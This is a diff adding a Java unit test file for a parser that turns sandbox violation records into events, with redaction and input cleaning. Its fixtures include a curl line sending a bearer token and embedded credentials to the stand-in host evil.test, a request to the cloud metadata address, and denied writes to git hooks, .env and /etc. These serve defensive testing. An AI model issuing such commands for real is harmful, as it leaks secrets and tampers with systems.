@@ -1,0 +1,204 @@
+package dev.knockwatch.ingest.srt;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import com.fasterxml.jackson.databind.JsonNode;
+import dev.knockwatch.events.AddressClass;
+import dev.knockwatch.events.Json;
+import dev.knockwatch.events.Kind;
+import dev.knockwatch.events.Source;
+import dev.knockwatch.events.ViolationEvent;
+import dev.knockwatch.ingest.Parsed;
+import dev.knockwatch.ingest.Rejection;
+import dev.knockwatch.ingest.SourceLine;
+import java.io.IOException;
+import java.io.InputStream;
+import java.time.Instant;
+import java.util.ArrayList;
+import java.util.LinkedHashMap;
+import java.util.List;
+import java.util.Map;
+import org.junit.jupiter.api.Test;
+
+/** Golden tests on the records srt 0.0.83 really produced (fixtures/srt-0.0.83/h*-api-violations*.json). */
+class SrtViolationParserTest {
+
+  private static final Instant NOW = Instant.parse("2026-11-29T19:00:00Z");
+  private final SrtViolationParser parser = new SrtViolationParser();
+
+  /** A fixture run: its label, the commandId srt was given, and each record as one JSON line. */
+  record Run(String file, String label, String commandId, List<String> records) {}
+
+  static List<Run> runs() throws IOException {
+    List<Run> out = new ArrayList<>();
+    for (String f : List.of("h-api-violations.json", "h2-api-violations-empty-allowlist.json",
+        "h3-api-violations-refuseOpaqueTunnels.json")) {
+      try (InputStream in = SrtViolationParserTest.class.getResourceAsStream("/fixtures/srt-0.0.83/" + f)) {
+        for (JsonNode run : Json.MAPPER.readTree(in).get("runs")) {
+          List<String> records = new ArrayList<>();
+          run.get("getViolationsForCommand").forEach(r -> records.add(r.toString()));
+          out.add(new Run(f, run.get("label").asText(), run.get("commandId").isNull() ? null
+              : run.get("commandId").asText(), records));
+        }
+      }
+    }
+    return out;
+  }
+
+  private Parsed parse(String json) {
+    return parser.parse(new SourceLine("ci-runner-1/x.violations.jsonl", 120, json, "ci-runner-1", null, "host-a", NOW));
+  }
+
+  private ViolationEvent event(String json) {
+    Parsed p = parse(json);
+    assertThat(p).isInstanceOf(Parsed.Events.class);
+    return ((Parsed.Events) p).events().get(0);
+  }
+
+  @Test
+  void everyFixtureRecordWithACommandIdBecomesAnEventOfThatCommand() throws IOException {
+    int parsed = 0;
+    for (Run run : runs()) {
+      for (String record : run.records()) {
+        Parsed p = parse(record);
+        if (run.commandId() == null) {
+          assertThat(p).as(run.label()).isInstanceOf(Parsed.Rejected.class);
+          continue;
+        }
+        assertThat(p).as(run.file() + " " + run.label()).isInstanceOf(Parsed.Events.class);
+        ViolationEvent e = ((Parsed.Events) p).events().get(0);
+        assertThat(e.commandId()).as(run.label()).isEqualTo(run.commandId());
+        assertThat(e.source()).isEqualTo(Source.SRT_VIOLATION);
+        assertThat(e.commandText()).as("secrets never leave ingest")
+            .doesNotContain("token=SECRET").doesNotContain("SECRET=1");
+        parsed++;
+      }
+    }
+    assertThat(parsed).as("13 + 13 + 3 records with a commandId in the three captures").isEqualTo(29);
+  }
+
+  @Test
+  void theFixtureRecordsYieldTheseTargetsAndClasses() throws IOException {
+    Map<String, String> seen = new LinkedHashMap<>();
+    for (Run run : runs()) {
+      if (!run.file().equals("h-api-violations.json") && !run.file().startsWith("h3")) {
+        continue;
+      }
+      for (String record : run.records()) {
+        if (parse(record) instanceof Parsed.Events ev) {
+          ViolationEvent e = ev.events().get(0);
+          seen.put(run.label() + "/" + e.action(), e.kind() + " " + (e.host() != null ? e.host() + ":" + e.port() : e.path())
+              + " " + e.addressClass() + " " + e.reason());
+        }
+      }
+    }
+    assertThat(seen).containsExactly(
+        Map.entry("http-get-not-allowed/network-outbound", "NETWORK example.com:80 null host is not on the allow list"),
+        Map.entry("https-connect-not-allowed/network-outbound", "NETWORK example.com:443 null host is not on the allow list"),
+        Map.entry("https-connect-bitly/network-outbound",
+            "NETWORK bit.ly:443 null URL shorteners are blocked; use the full destination URL"),
+        Map.entry("socks5h-not-allowed/network-outbound", "NETWORK example.com:443 null host is not on the allow list"),
+        Map.entry("resolved-loopback-http/network-outbound",
+            "NETWORK loopback-alias.test:8080 LOOPBACK resolved to a loopback address"),
+        Map.entry("resolved-linklocal-connect/network-outbound",
+            "NETWORK linklocal-alias.test:443 LINK_LOCAL resolved to a link-local address"),
+        Map.entry("resolved-metadata-socks/network-outbound",
+            "NETWORK metadata-alias.test:80 CLOUD_METADATA resolved to a cloud metadata address"),
+        Map.entry("fs-touch-home/openat", "FILESYSTEM /home/agent/sandbox-probe null null"),
+        Map.entry("fs-touch-home/utimensat", "FILESYSTEM /home/agent/sandbox-probe null null"),
+        Map.entry("fs-git-hook-append/openat", "FILESYSTEM /home/agent/work/.git/hooks/pre-commit null null"),
+        Map.entry("fs-dotenv-write/openat", "FILESYSTEM /home/agent/work/.env null null"),
+        Map.entry("fs-write-etc/openat", "FILESYSTEM /etc/srt-probe null null"),
+        Map.entry("commandText-differs/network-outbound", "NETWORK example.net:443 null host is not on the allow list"),
+        Map.entry("connect-allowed-host-opaque-refused/http-request",
+            "NETWORK loopback-alias.test:8443 null this proxy does not tunnel CONNECTs it cannot inspect"),
+        Map.entry("socks-any-host-refused/socks-tunnel", "NETWORK example.com:443 null refuseOpaqueTunnels"),
+        Map.entry("connect-not-allowed/network-outbound", "NETWORK example.com:443 null host is not on the allow list"));
+  }
+
+  @Test
+  void theFirstFixtureRecordBecomesExactlyThisEvent() {
+    ViolationEvent e = event("{\"line\":\"deny network-outbound example.com:80 (host is not on the allow list)\","
+        + "\"encodedCommand\":\"eGhmSHl0bVhMLUw2UnNZdzJDclNqQQ==\","
+        + "\"command\":\"curl -s http://example.com/path?token=SECRET#frag\",\"timestamp\":\"2026-11-29T18:45:32.887Z\"}");
+    assertThat(Json.write(e)).isEqualTo("{\"schema\":1,\"eventId\":\"" + e.eventId() + "\","
+        + "\"commandId\":\"xhfHytmXL-L6RsYw2CrSjA\",\"agentId\":\"ci-runner-1\",\"source\":\"srt-violation\","
+        + "\"kind\":\"network\",\"action\":\"network-outbound\",\"host\":\"example.com\",\"port\":80,"
+        + "\"reason\":\"host is not on the allow list\",\"observedAt\":\"2026-11-29T18:45:32.887Z\","
+        + "\"ingestedAt\":\"2026-11-29T19:00:00Z\",\"commandText\":\"curl -s http://example.com/path?token=[REDACTED]#frag\","
+        + "\"origin\":{\"file\":\"ci-runner-1/x.violations.jsonl\",\"offset\":120,\"ingestHost\":\"host-a\"}}");
+    assertThat(e.eventId()).hasSize(32).isEqualTo(event(
+        "{\"line\":\"deny network-outbound example.com:80 (host is not on the allow list)\",\"commandId\":\"xhfHytmXL-L6RsYw2CrSjA\"}")
+        .eventId());
+  }
+
+  @Test
+  void theRecordsOwnCommandIdAndAgentIdWin() {
+    ViolationEvent e = event("{\"line\":\"deny network-outbound example.com:443 (x)\","
+        + "\"encodedCommand\":\"eGhmSHl0bVhMLUw2UnNZdzJDclNqQQ==\",\"commandId\":\"AAAAAAAAAAAAAAAAAAAAAA\",\"agentId\":\"bridge-agent\"}");
+    assertThat(e.commandId()).isEqualTo("AAAAAAAAAAAAAAAAAAAAAA");
+    assertThat(e.agentId()).isEqualTo("bridge-agent");
+  }
+
+  @Test
+  void withoutIdOrEncodedCommandTheFileNameGivesTheCommand() {
+    Parsed p = parser.parse(new SourceLine("a/xhfHytmXL-L6RsYw2CrSjA.violations.jsonl", 0,
+        "{\"line\":\"deny network-outbound example.com:443 (x)\"}", "a", "xhfHytmXL-L6RsYw2CrSjA", "h", NOW));
+    assertThat(((Parsed.Events) p).events().get(0).commandId()).isEqualTo("xhfHytmXL-L6RsYw2CrSjA");
+  }
+
+  @Test
+  void aRecordKeyedByCommandTextIsRejectedAsHavingNoCommandId() {
+    // srt encodes the command text when it was given no id (fixture run no-commandId-keyed-by-command-text)
+    assertThat(parse("{\"line\":\"deny network-outbound example.org:443 (host is not on the allow list)\","
+        + "\"encodedCommand\":\"Y3VybCAtcyBodHRwczovL2V4YW1wbGUub3Jn\",\"command\":\"curl -s https://example.org\"}"))
+        .isEqualTo(Parsed.rejected(Rejection.INVALID_COMMAND_ID,
+            "encodedCommand decodes to no command id (commandId has a character outside [A-Za-z0-9._:-] at position 5: U+0020)"));
+  }
+
+  @Test
+  void aTenCharacterIdIsRejectedWithTheReason() {
+    assertThat(parse("{\"line\":\"deny network-outbound example.com:443 (x)\",\"commandId\":\"abcdefghij\"}"))
+        .isEqualTo(Parsed.rejected(Rejection.INVALID_COMMAND_ID,
+            "commandId is too short: 10 characters, at least 22 required"));
+  }
+
+  @Test
+  void badInputIsRejectedWithAClearReason() {
+    assertThat(parse("not json at all")).isInstanceOf(Parsed.Rejected.class)
+        .extracting(r -> ((Parsed.Rejected) r).code()).isEqualTo(Rejection.NOT_JSON);
+    assertThat(parse("[1,2]")).isEqualTo(Parsed.rejected(Rejection.NOT_JSON, "not a JSON object"));
+    assertThat(parse("{\"encodedCommand\":\"eA==\"}"))
+        .isEqualTo(Parsed.rejected(Rejection.BAD_RECORD, "srt violation record has no \"line\" text"));
+    assertThat(parse("{\"line\":\"permit all\",\"commandId\":\"xhfHytmXL-L6RsYw2CrSjA\"}"))
+        .isEqualTo(Parsed.rejected(Rejection.UNRECOGNISED_LINE, "not an srt deny line: \"permit all\""));
+    assertThat(parse("{\"line\":\"deny network-outbound a.test:1 (x)\",\"encodedCommand\":\"***\"}"))
+        .isEqualTo(Parsed.rejected(Rejection.INVALID_COMMAND_ID, "encodedCommand is not base64"));
+  }
+
+  @Test
+  void hostileFieldsAreCleanedBeforeTheyLeaveIngest() {
+    ViolationEvent e = event("{\"line\":\"deny network-outbound EVIL.Test.:443 (host\\u001b[31m is not\\u202e on the list)\","
+        + "\"commandId\":\"xhfHytmXL-L6RsYw2CrSjA\",\"agentId\":\"a\\nb\","
+        + "\"command\":\"curl -H 'Authorization: Bearer abc' https://u:pw@evil.test/\\r\\n" + "x".repeat(5000) + "\"}");
+    assertThat(e.host()).isEqualTo("evil.test");
+    assertThat(e.reason()).isEqualTo("host [31m is not  on the list");
+    assertThat(e.agentId()).isEqualTo("a b");
+    assertThat(e.commandText()).startsWith("curl -H 'Authorization: Bearer [REDACTED]' https://u:[REDACTED]@evil.test/  xxx")
+        .hasSize(SrtViolationParser.MAX_COMMAND_CHARS + 1).endsWith("…");
+  }
+
+  @Test
+  void aMissingOrUnreadableTimestampFallsBackToIngestTime() {
+    assertThat(event("{\"line\":\"deny openat /etc/x\",\"commandId\":\"xhfHytmXL-L6RsYw2CrSjA\",\"timestamp\":\"yesterday\"}")
+        .observedAt()).isEqualTo(NOW);
+  }
+
+  @Test
+  void anIpLiteralIsClassifiedFromItsAddress() {
+    ViolationEvent e = event("{\"line\":\"deny network-outbound 169.254.169.254:80 (host is not on the allow list)\","
+        + "\"commandId\":\"xhfHytmXL-L6RsYw2CrSjA\"}");
+    assertThat(e.addressClass()).isEqualTo(AddressClass.CLOUD_METADATA);
+    assertThat(e.kind()).isEqualTo(Kind.NETWORK);
+  }
+}
